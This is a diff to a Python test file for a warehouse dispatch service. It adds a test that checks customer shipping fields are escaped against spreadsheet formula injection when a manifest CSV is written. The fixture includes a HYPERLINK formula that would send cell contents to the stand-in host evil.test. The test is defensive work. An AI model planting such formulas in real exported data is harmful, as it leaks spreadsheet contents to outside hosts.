@@ -12,7 +12,7 @@ from sqlmodel import select
 from tests.worlds.dispatch import DAY, Dock, build_dock, packed_parcel
 from wms_tui.domain.enums import ManifestStatus, MovementReason, OrderStatus, ParcelStatus
 from wms_tui.domain.errors import Conflict, DomainError, NotFound, PermissionDenied
-from wms_tui.domain.models import Event, Location, Manifest, Stock, StockMovement
+from wms_tui.domain.models import Event, Location, Manifest, Order, Stock, StockMovement
 from wms_tui.services.dispatch import handover, manifest
 from wms_tui.services.inventory.stock import ledger_mismatches
 from wms_tui.store import Store
@@ -64,6 +64,22 @@ def test_close_out_dispatches_orders_and_writes_the_csv(dock: Dock) -> None:
     assert rows[0]["loaded_at"] == "2026-03-10 14:00" and rows[0]["loaded_by"] == "Johan Öberg"
     # Shipping confirmations went out with the close-out.
     assert r.notices_written == 2 and r.notices_sent == 0
+
+
+def test_manifest_csv_writes_customer_text_that_a_spreadsheet_cannot_run(dock: Dock) -> None:
+    with dock.store.unit_of_work() as uow:
+        o = uow.session.exec(select(Order).where(Order.name == "#1")).one()
+        o.ship_company = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
+        o.ship_name = "@SUM(A1:A9)"
+        o.ship_address1 = "-1+1"
+        uow.commit()
+    load(dock, "#1")
+    r = manifest.close_manifest(dock.store, dock.boss, "PN", leave_behind_ok=True)
+    with Path(r.csv_file).open(encoding="utf-8-sig", newline="") as fh:
+        row = next(csv.DictReader(fh))
+    assert row["ship_company"] == '\'=HYPERLINK("http://evil.test/?"&A1,"Click")'
+    assert (row["ship_name"], row["ship_address1"]) == ("'@SUM(A1:A9)", "'-1+1")
+    assert row["sscc"] == dock.sscc["#1"]  # the rest as it was
 
 
 def pdf_text(path: Path) -> str:
